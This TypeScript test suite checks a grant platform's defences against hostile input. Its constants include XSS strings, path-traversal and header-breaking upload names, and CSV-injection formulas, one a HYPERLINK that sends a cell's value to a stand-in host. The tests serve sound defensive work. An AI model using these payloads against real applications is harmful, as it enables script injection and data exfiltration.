import { existsSync, readdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { resolve } from 'node:path';
import ExcelJS from 'exceljs';
import request from 'supertest';
import { brusselsLocal } from '@ps/applications';
import { NoticeWorker } from '@ps/notifications';
import { AllocationFixture, threeApprovedAndOnePending } from '../support/allocation-fixture';
import { binary } from '../support/binary';
import { Factories, startFactories } from '../support/factories';
import { publishByTwo, releaseByTwo } from '../support/four-eyes';
import { expressName, OpenApiDocument, operationsOf } from '../support/openapi-arbitraries';
import { pageTexts, ONE_PAGE_PDF } from '../support/pdf';
import { Agent, csrfFrom, csrfOf, signIn } from '../support/sessions';
import { startSmtpServer, TestSmtpServer } from '../support/smtp';
import { snapshot } from '../support/test-app';

/**
 * Hostile input that reaches the output: content types a route does not take, path traversal in upload names, script
 * in text fields (escaped in the pages, plain text in the mails, inert in the exports) and formulas in exported cells
 * (a leading apostrophe in CSV, string cells in XLSX).
 */
const SCRIPT = '<script>alert(1)</script>';
const ATTRIBUTE = '"><img src=x onerror=alert(1)>';
/** Handlebars' escaping of the two: what a page must show instead of markup. */
const SCRIPT_ESCAPED = '&lt;script&gt;alert(1)&lt;/script&gt;';
const ATTRIBUTE_ESCAPED = '&quot;&gt;&lt;img src&#x3D;x onerror&#x3D;alert(1)&gt;';
const FORMULAS = ['=HYPERLINK("https://x.test/?d="&A1,"klik")', '+1', '-1+1', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+([,.]\d+)?$/;
const PASSWORD = 'een lang wachtwoord voor tests';
const TABLES = [
  'partner',
  'partner_action',
  'applicant',
  'applicant_document',
  'kpi_report',
  'kpi_report_line',
  'kpi_report_evidence',
  'app_user',
  'audit_event',
];
const PNG = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex');

/** The cells of a CSV file for Excel in nl-BE (semicolons, double quotes, CRLF), after its byte order mark. */
function csvCells(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  const body = text.replace(/^\uFEFF/, '');
  const endCell = () => {
    rows[rows.length - 1].push(cell);
    cell = '';
  };
  for (let i = 0; i < body.length; i++) {
    const c = body[i];
    if (quoted && c === '"' && body[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (quoted && c === '"') quoted = false;
    else if (quoted) cell += c;
    else if (c === '"') quoted = true;
    else if (c === ';') endCell();
    else if (c === '\r' && body[i + 1] === '\n') {
      endCell();
      rows.push([]);
      i++;
    } else cell += c;
  }
  if (cell !== '' || rows[rows.length - 1].length > 0) rows[rows.length - 1].push(cell);
  return rows.filter((row) => row.length > 0);
}

/** Every cell of every sheet of a workbook: its address, type and value. */
async function workbookCells(content: Buffer): Promise<{ address: string; formula: boolean; value: unknown }[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(content as unknown as ArrayBuffer);
  const cells: { address: string; formula: boolean; value: unknown }[] = [];
  workbook.eachSheet((sheet) =>
    sheet.eachRow({ includeEmpty: false }, (row) =>
      row.eachCell({ includeEmpty: false }, (cell) =>
        cells.push({ address: `${sheet.name}!${cell.address}`, formula: cell.type === ExcelJS.ValueType.Formula || !!cell.formula, value: cell.value }),
      ),
    ),
  );
  return cells;
}

/** A Content-Disposition that no file name can break: quoted printable ASCII without separators, and an RFC 5987 UTF-8 name. */
function expectSafeDisposition(header: string | undefined): string {
  expect(header).toMatch(/^attachment; filename="[\x20\x21\x23-\x5b\x5d-\x7e]*"(; filename\*=UTF-8''[A-Za-z0-9%._~!'()*-]+)?$/);
  const star = /filename\*=UTF-8''(.+)$/.exec(header!)?.[1];
  const name = star ? decodeURIComponent(star) : /filename="([^"]*)"/.exec(header!)![1];
  // eslint-disable-next-line no-control-regex -- control characters are exactly what a safe file name must not hold
  expect(name).not.toMatch(/[\\/\u0000-\u001f\u007f]/);
  expect(['', '.', '..']).not.toContain(name);
  return name;
}

describe('hostile input on its way out: content types, upload names, script and formulas', () => {
  let f: Factories;
  let smtp: TestSmtpServer;
  let fx: AllocationFixture;
  let admin: string;
  let reviewer: string;
  let officer: string;
  let officerEmail: string;
  let adminAgent: Agent;
  let officerAgent: Agent;
  const start = new Date();
  const DAY = 24 * 3600 * 1000;
  const as = (token: string) => ({ Authorization: `Bearer ${token}` });

  /** The officer saves application A's interim report with these lines, under its current version. */
  async function saveInterimReport(lines: Record<string, unknown>[]): Promise<void> {
    const report = (await request(f.http).get(`/api/v1/applications/${fx.a.id}/reports/interim`).set(as(officer)).expect(200)).body;
    await request(f.http).put(`/api/v1/applications/${fx.a.id}/reports/interim`).set(as(officer)).send({ version: report.version, lines }).expect(200);
  }
  const download = (path: string, token: string) => request(f.http).get(path).set(as(token)).buffer(true).parse(binary);
  const unchangedBy = async <T>(attempt: () => Promise<T>): Promise<T> => {
    const before = await snapshot(f.dataSource, TABLES);
    const result = await attempt();
    expect(await snapshot(f.dataSource, TABLES)).toEqual(before);
    return result;
  };

  beforeAll(async () => {
    smtp = await startSmtpServer();
    f = await startFactories({ http: true, now: start, env: { SMTP_URL: smtp.url } });
    fx = await threeApprovedAndOnePending(f, {
      interimReportDue: brusselsLocal(new Date(start.getTime() + 10 * DAY)).slice(0, 16),
      finalReportDue: brusselsLocal(new Date(start.getTime() + 40 * DAY)).slice(0, 16),
    });
    const administrator = await f.actors.administrator();
    [admin, reviewer, officer] = [await f.bearer(administrator), await f.bearer(await f.actors.reviewer()), await f.bearer(fx.a.applicant.officer)];
    [{ email: officerEmail }] = await f.dataSource.query(`SELECT email FROM app_user WHERE id = $1`, [fx.a.applicant.officer.userId]);
    const [{ email: adminEmail }] = await f.dataSource.query(`SELECT email FROM app_user WHERE id = $1`, [administrator.userId]);
    adminAgent = await signIn({ http: f.http }, adminEmail, PASSWORD);
    officerAgent = await signIn({ http: f.http }, officerEmail, PASSWORD);
  });
  afterAll(async () => {
    await f?.close();
    await smtp?.close();
  });

  describe('content types a route does not take: a Dutch 4xx that changes nothing', () => {
    const partner = { name: 'Buurtwerk', offer: 'free', actionNumbers: [5] };

    it.each([
      ['text/plain', JSON.stringify(partner)],
      ['application/xml', '<partner><name>Buurtwerk</name></partner>'],
      ['application/x-www-form-urlencoded', 'name=Buurtwerk&offer=free'],
      ['application/json; charset=utf-16', JSON.stringify(partner)],
    ])('refuses %s on a JSON route', async (type, body) => {
      const res = await unchangedBy(() => request(f.http).post('/api/v1/partners').set(as(admin)).set('Content-Type', type).send(body));
      expect(res.status).toBeGreaterThanOrEqual(400);
      expect(res.status).toBeLessThan(500);
      expect(res.body.message).toEqual(expect.any(String));
      expect(JSON.stringify(res.body)).not.toMatch(/must be|should not|Unsupported|charset/i);
    });

    it('refuses multipart on a JSON route', async () => {
      const res = await unchangedBy(() =>
        request(f.http).post('/api/v1/partners').set(as(admin)).field('name', 'Buurtwerk').field('offer', 'free').field('actionNumbers', '5'),
      );
      expect(res.status).toBe(422);
      expect(res.body.message).toEqual(expect.any(String));
    });

    it('refuses JSON and plain text on an upload route', async () => {
      const url = `/api/v1/applicants/${fx.d.applicant.id}/iban-letter`;
      const [tokenOfD] = [await f.bearer(fx.d.applicant.officer)];
      for (const [type, body] of [
        ['application/json', JSON.stringify({ letter: ONE_PAGE_PDF.toString('base64') })],
        ['text/plain', ONE_PAGE_PDF.toString('latin1')],
      ]) {
        const res = await unchangedBy(() => request(f.http).post(url).set(as(tokenOfD)).set('Content-Type', type).send(body));
        expect([res.status, res.body.errors]).toEqual([422, { letter: ['Kies een PDF-bestand met de bevestigingsbrief.'] }]);
      }
    });

    // Found by this test: the sign-in form accepted a JSON body that carried the session's CSRF token. JSON is now parsed
    // for the API only (apps/platform/src/request-limits.ts), so a form route takes forms only.
    it('refuses JSON where a web form is expected', async () => {
      const agent = request.agent(f.http);
      const form = await agent.get('/aanmelden').expect(200);
      const res = await agent
        .post('/aanmelden')
        .set('Content-Type', 'application/json')
        .send(JSON.stringify({ _csrf: csrfFrom(form.text), email: officerEmail, password: PASSWORD }));
      expect(res.status).toBeGreaterThanOrEqual(400);
      expect(res.status).toBeLessThan(500);
      for (const type of ['text/plain', 'application/xml']) {
        const other = await agent
          .post('/aanmelden')
          .set('Content-Type', type)
          .send(`_csrf=${csrfFrom(form.text)}&email=${officerEmail}`);
        expect([other.status >= 400, other.status < 500]).toEqual([true, true]);
      }
      // Not signed in: the account page still sends the visitor to the sign-in form.
      await agent.get('/account').expect(303);
      const partnerForm = await unchangedBy(() =>
        adminAgent
          .post('/beheer/partners')
          .set('Content-Type', 'application/json')
          .send(JSON.stringify({ name: 'Via JSON', offer: 'free', actionNumbers: ['5'] })),
      );
      expect(partnerForm.status).toBe(403);
    });
  });

  describe('path traversal and odd names in uploads', () => {
    const marker = `ps-spoor-${process.pid}-${Date.now()}`;
    const NAMES = [
      `../../${marker}.pdf`,
      `..\\..\\${marker}.pdf`,
      `/tmp/${marker}.pdf`,
      `${marker}\u0000.pdf`,
      `${'x'.repeat(900)}-${marker}.pdf`,
      `Ünïcødé 漢字 📄 ${marker}.pdf`,
      `"; filename=${marker}.exe`,
      '..',
    ];
    // eslint-disable-next-line no-control-regex -- NUL is one of the names the platform may refuse
    const REFUSABLE = /["\u0000]|^\.\.$/;
    /** No upload left a file anywhere a traversal could aim at: the files live in PostgreSQL only. */
    const noFileWritten = () => {
      for (const base of [process.cwd(), resolve(process.cwd(), '..'), tmpdir(), '/']) {
        expect(readdirSync(base).filter((entry) => entry.includes(marker))).toEqual([]);
        expect(existsSync(resolve(base, '../..', `${marker}.pdf`))).toBe(false);
      }
    };
    const storedNames = async (table: string) =>
      (await f.dataSource.query(`SELECT filename FROM ${table} ORDER BY id`)).map((r: { filename: string }) => r.filename);
    const safeStored = (name: string) => {
      // eslint-disable-next-line no-control-regex -- control characters are exactly what a stored name must not hold
      expect(name).not.toMatch(/[\\/\u0000-\u001f\u007f]/);
      expect(['', '.', '..']).not.toContain(name);
      expect(name.length).toBeLessThanOrEqual(150);
    };

    it('stores the IBAN letter (API and page) under a safe name and sends a safe download header', async () => {
      const applicant = await f.anApplicant(fx.call, { ibanLetter: false });
      const token = await f.bearer(applicant.officer);
      const [{ email }] = await f.dataSource.query(`SELECT email FROM app_user WHERE id = $1`, [applicant.officer.userId]);
      const agent = await signIn({ http: f.http }, email, PASSWORD);
      for (const name of NAMES) {
        const api = await request(f.http)
          .post(`/api/v1/applicants/${applicant.id}/iban-letter`)
          .set(as(token))
          .attach('letter', ONE_PAGE_PDF, { filename: name, contentType: 'application/pdf' });
        expect([201, 400, 422]).toContain(api.status);
        const csrf = await csrfOf(agent, `/aanvragers/${applicant.id}`);
        const page = await agent
          .post(`/aanvragers/${applicant.id}/brief`)
          .field('_csrf', csrf)
          .attach('letter', ONE_PAGE_PDF, { filename: name, contentType: 'application/pdf' });
        expect(page.status).toBeLessThan(500);
        const res = await download(`/api/v1/applicants/${applicant.id}/iban-letter`, token).expect(200);
        expectSafeDisposition(res.headers['content-disposition']);
        expect(res.body).toEqual(ONE_PAGE_PDF);
      }
      const names = await storedNames('applicant_document');
      expect(names.length).toBeGreaterThanOrEqual(NAMES.length);
      names.forEach(safeStored);
      noFileWritten();
    });

    it('stores evidence (API and page) under a safe name, downloads it with a safe header, and reads no workbook name as a path', async () => {
      const line = fx.call.line(5).id;
      const before = (await storedNames('kpi_report_evidence')).length;
      let stored = 0;
      for (const name of NAMES) {
        const api = await request(f.http)
          .post(`/api/v1/applications/${fx.a.id}/reports/interim/lines/${line}/evidence`)
          .set(as(officer))
          .attach('file', PNG, { filename: name.replace(/\.pdf$/, '.png'), contentType: 'image/png' });
        // A name with NUL (control characters), a quote that breaks the multipart header, or "..", may be refused, in Dutch.
        expect([name, [201, 400, 422].includes(api.status)]).toEqual([name, true]);
        if (api.status !== 201) expect(api.body.message).toEqual(expect.any(String));

        if (!REFUSABLE.test(name)) expect([name, api.status]).toEqual([name, 201]);
        const csrf = await csrfOf(officerAgent, `/aanvragen/${fx.a.id}/rapporten/interim`);
        const page = await officerAgent
          .post(`/aanvragen/${fx.a.id}/rapporten/interim/bewijsstukken/${line}`)
          .field('_csrf', csrf)
          .attach('file', ONE_PAGE_PDF, { filename: name, contentType: 'application/pdf' });
        expect([name, page.status >= 300 && page.status < 500]).toEqual([name, true]);

        if (!REFUSABLE.test(name)) expect([name, page.status]).toEqual([name, 303]);
        stored += Number(api.status === 201) + Number(page.status === 303);
        for (const workbookUrl of [`/api/v1/applications/${fx.a.id}/reports/interim/workbook`]) {
          const refused = await request(f.http)
            .post(workbookUrl)
            .set(as(officer))
            .attach('workbook', ONE_PAGE_PDF, { filename: name.replace(/\.pdf$/, '.xlsx') });
          expect([400, 422]).toContain(refused.status);
        }
        const webWorkbook = await officerAgent
          .post(`/aanvragen/${fx.a.id}/rapporten/interim/excel`)
          .field('_csrf', await csrfOf(officerAgent, `/aanvragen/${fx.a.id}/rapporten/interim`))
          .attach('workbook', ONE_PAGE_PDF, { filename: name.replace(/\.pdf$/, '.xlsx') });
        expect(webWorkbook.status).toBeLessThan(500);
      }
      const rows: { id: number; filename: string }[] = await f.dataSource.query(`SELECT id, filename FROM kpi_report_evidence ORDER BY id`);
      expect(rows.length - before).toBe(stored);
      expect(stored).toBeGreaterThanOrEqual(2 * (NAMES.length - 3));
      rows.forEach((row) => safeStored(row.filename));
      expect(rows.map((r) => r.filename)).toContain(`${marker}.png`);
      expect(rows.some((r) => r.filename.includes('漢字'))).toBe(true);
      for (const row of rows) {
        for (const url of [
          `/api/v1/applications/${fx.a.id}/reports/interim/evidence/${row.id}`,
          `/aanvragen/${fx.a.id}/rapporten/interim/bewijsstukken/${row.id}`,
        ]) {
          const res = url.startsWith('/api') ? await download(url, officer) : await officerAgent.get(url).buffer(true).parse(binary);
          expect(res.status).toBe(200);
          expect(expectSafeDisposition(res.headers['content-disposition'])).toBe(row.filename);
          expect(res.headers['x-content-type-options']).toBe('nosniff');
        }
      }
      noFileWritten();
    });
  });

  describe('script in text fields', () => {
    const expectEscaped = (html: string, raw: string[], escaped: string[]) => {
      for (const text of raw) expect(html).not.toContain(text);
      for (const text of escaped) expect(html).toContain(text);
    };

    it('escapes a user name in the user pages and keeps it as plain text in the welcome mail and the outbox', async () => {
      const user = await request(f.http)
        .post('/api/v1/users')
        .set(as(admin))
        .send({ email: 'script@analist.test', displayName: `Vera ${SCRIPT} ${ATTRIBUTE}`, role: 'vvsg-analyst' })
        .expect(201);
      for (const page of ['/beheer/gebruikers', `/beheer/gebruikers/${user.body.id}`, '/beheer/uitgaande-mail']) {
        expectEscaped((await adminAgent.get(page).expect(200)).text, [SCRIPT, '<img src=x'], [SCRIPT_ESCAPED, ATTRIBUTE_ESCAPED]);
      }
      const outbox = (await request(f.http).get('/api/v1/outbox').set(as(admin)).expect(200)).body;
      const mail = outbox.find((m: { to: string }) => m.to === 'script@analist.test');
      // A text/plain mail: the name as typed (an HTML entity would show as such), the subject one fixed line.
      expect(mail.body).toContain(`Beste Vera ${SCRIPT} ${ATTRIBUTE},`);
      expect(mail.subject).not.toMatch(/[\r\n<>]/);
      // The outbox never shows the welcome link; the mail the new user gets has it, and the name as typed too.
      await f.get(NoticeWorker).deliverWaiting();
      const { path } = smtp.linkTo('script@analist.test');
      expect(mail.body).not.toContain(path);
      expect(mail.body).toContain('[link naar de ontvanger verstuurd; niet zichtbaar in de uitgaande mail]');
      expect(smtp.latestTo('script@analist.test').text).toContain(`Beste Vera ${SCRIPT} ${ATTRIBUTE},`);
    });

    it('escapes contact names, partner names and report texts saved through the API in every page that shows them', async () => {
      const applicant = (await request(f.http).get(`/api/v1/applicants/${fx.a.applicant.id}`).set(as(officer)).expect(200)).body;
      const contact = await request(f.http)
        .put(`/api/v1/applicants/${fx.a.applicant.id}/contact`)
        .set(as(officer))
        .send({
          version: applicant.version,
          contactName: `Contact ${SCRIPT}`,
          contactEmail: 'contact@proef.test',
          contactPhone: '09 266 55 00',
          payoutIban: 'BE68539007547034',
        });
      expect(contact.status).toBe(200);
      expectEscaped((await officerAgent.get(`/aanvragers/${fx.a.applicant.id}`).expect(200)).text, [SCRIPT], [SCRIPT_ESCAPED]);

      await request(f.http)
        .post('/api/v1/partners')
        .set(as(admin))
        .send({ name: `Partner ${ATTRIBUTE}`, offer: 'free', actionNumbers: [5], description: SCRIPT })
        .expect(201);
      expectEscaped((await adminAgent.get('/beheer/partners').expect(200)).text, [SCRIPT, '<img src=x'], [ATTRIBUTE_ESCAPED]);

      await saveInterimReport([{ kpiLineId: fx.call.line(5).id, realisedQuantity: 1, approach: SCRIPT, partners: ATTRIBUTE, motivation: FORMULAS[0] }]);
      expectEscaped(
        (await officerAgent.get(`/aanvragen/${fx.a.id}/rapporten/interim`).expect(200)).text,
        [SCRIPT, '<img src=x'],
        [SCRIPT_ESCAPED, ATTRIBUTE_ESCAPED],
      );
    });

    it('draws script in an applicant name as text in the decision letter PDF', async () => {
      await f.dataSource.query(`UPDATE applicant SET name_nl = $1 WHERE id = $2`, [`Verband ${SCRIPT}`, fx.d.applicant.id]);
      const application = (await request(f.http).get(`/api/v1/applications/${fx.d.id}`).set(as(reviewer)).expect(200)).body;
      const reviewing = (
        await request(f.http).post(`/api/v1/applications/${fx.d.id}/start-review`).set(as(reviewer)).send({ version: application.version }).expect(200)
      ).body;
      await request(f.http)
        .post(`/api/v1/applications/${fx.d.id}/approve`)
        .set(as(reviewer))
        .send({ version: reviewing.version, confirmed: [{ kpiLineId: fx.call.line(5).id, quantity: 2 }] })
        .expect(200);
      const pdf = await download(`/api/v1/applications/${fx.d.id}/decision-letter.pdf`, reviewer).expect(200);
      expect((await pageTexts(pdf.body)).join(' ')).toContain(`Verband ${SCRIPT}`);
      expectEscaped((await adminAgent.get(`/aanvragen/${fx.d.id}/beslissingsbrief`).expect(200)).text, [SCRIPT], [SCRIPT_ESCAPED]);
    });
  });

  describe('formulas in exported cells', () => {
    /** Every CSV cell that Excel would read as a formula carries the leading apostrophe of libs/kernel/src/spreadsheet-csv.ts. */
    const expectNoFormulaCell = (rows: string[][]) => {
      for (const cell of rows.flat()) if (FORMULA_START.test(cell)) expect(PLAIN_NUMBER.test(cell) ? cell : `plain number or ' first: ${cell}`).toBe(cell);
    };

    it('neutralises formulas in applicant and local-government names on the payment list CSV (API and page)', async () => {
      // Stored names as registration and the reference data could bring them; the export must neutralise whatever is stored.
      const names = [fx.a, fx.b, fx.c].map((x) => x.applicant.id);
      for (const [i, id] of names.entries()) await f.dataSource.query(`UPDATE applicant SET name_nl = $1 WHERE id = $2`, [FORMULAS[i], id]);
      for (const [i, x] of [fx.a, fx.b, fx.c].entries())
        await f.dataSource.query(`UPDATE local_government SET name_nl = $1 WHERE id = $2`, [FORMULAS[i + 3], x.applicant.lead.id]);
      const run = (await request(f.http).post(`/api/v1/calls/${fx.call.year}/allocation-runs`).set(as(reviewer)).send({}).expect(201)).body;
      await publishByTwo(f.http, run.id, { confirmPendingReview: true, reason: 'Proef van de betaallijst.' }, reviewer, admin);
      await releaseByTwo(f.http, run.id, reviewer, admin);
      for (const res of [
        await download(`/api/v1/allocation-runs/${run.id}/payments.csv`, reviewer),
        await (await signIn({ http: f.http }, 'beoordelaar@service.test', PASSWORD)).get(`/verdelingen/${run.id}/betaallijst`).buffer(true).parse(binary),
      ]) {
        expect(res.status).toBe(200);
        const rows = csvCells(res.body.toString('utf8'));
        expectNoFormulaCell(rows);
        const cells = rows.flat();
        for (const formula of FORMULAS) expect(cells).toContain(`'${formula}`);
      }
    });

    it('keeps formulas as text in the report workbook: string cells, never a formula', async () => {
      await saveInterimReport([
        { kpiLineId: fx.call.line(5).id, realisedQuantity: 1, approach: FORMULAS[0], partners: FORMULAS[3], motivation: FORMULAS[2] },
        { kpiLineId: fx.call.line(9).id, realisedQuantity: 1, approach: FORMULAS[1], partners: FORMULAS[4], motivation: FORMULAS[5] },
      ]);
      for (const res of [
        await download(`/api/v1/applications/${fx.a.id}/reports/interim/workbook`, officer),
        await officerAgent.get(`/aanvragen/${fx.a.id}/rapporten/interim/excel`).buffer(true).parse(binary),
      ]) {
        expect(res.status).toBe(200);
        const cells = await workbookCells(res.body);
        expect(cells.filter((c) => c.formula)).toEqual([]);
        // As typed (a carriage return is stored as a line feed), in a string cell.
        for (const formula of FORMULAS) expect([formula, cells.some((c) => c.value === formula.replace(/\r/g, '\n'))]).toEqual([formula, true]);
      }
    });

    it('neutralises formulas in every CSV and XLSX export of the API (overviews and payment lists, found in the OpenAPI document)', async () => {
      await f.dataSource.query(`UPDATE action SET title_nl = $1 WHERE number = 5`, [FORMULAS[0]]);
      await f.dataSource.query(`UPDATE call_action SET title_nl = $1 WHERE action_number = 5`, [FORMULAS[0]]);
      await f.dataSource.query(`UPDATE objective SET name_nl = $1 WHERE code = (SELECT objective_code FROM action WHERE number = 9)`, [FORMULAS[3]]);
      const document: OpenApiDocument = (await request(f.http).get('/api/docs-json').expect(200)).body;
      const exports = operationsOf(document).filter((o) => o.method === 'get' && /\.(csv|xlsx)$/.test(o.path));
      expect(exports.map(expressName)).toEqual(expect.arrayContaining(['GET /api/v1/overviews/actions.csv', 'GET /api/v1/overviews/actions.xlsx']));
      const [run] = await f.dataSource.query(`SELECT id FROM allocation_run WHERE published_at IS NOT NULL ORDER BY id DESC LIMIT 1`);
      for (const operation of exports) {
        const url = operation.path.replace('{id}', String(run.id)) + `?province=${encodeURIComponent(FORMULAS[0])}`;
        let res = await download(url, admin);
        if (res.status === 403) res = await download(url, reviewer);
        if (res.status === 422) res = await download(operation.path.replace('{id}', String(run.id)), res.status === 422 ? admin : reviewer);
        if (res.status === 403) res = await download(operation.path.replace('{id}', String(run.id)), reviewer);
        expect([expressName(operation), res.status]).toEqual([expressName(operation), 200]);
        if (operation.path.endsWith('.csv')) expectNoFormulaCell(csvCells(res.body.toString('utf8')));
        else expect((await workbookCells(res.body)).filter((c) => c.formula)).toEqual([]);
      }
      const csv = csvCells((await download('/api/v1/overviews/actions.csv', admin).expect(200)).body.toString('utf8')).flat();
      expect(csv).toContain(`'${FORMULAS[0]}`);
      const xlsx = await workbookCells((await download('/api/v1/overviews/actions.xlsx', admin).expect(200)).body);
      expect(xlsx.some((c) => c.value === FORMULAS[0] && !c.formula)).toBe(true);
    });
  });
});
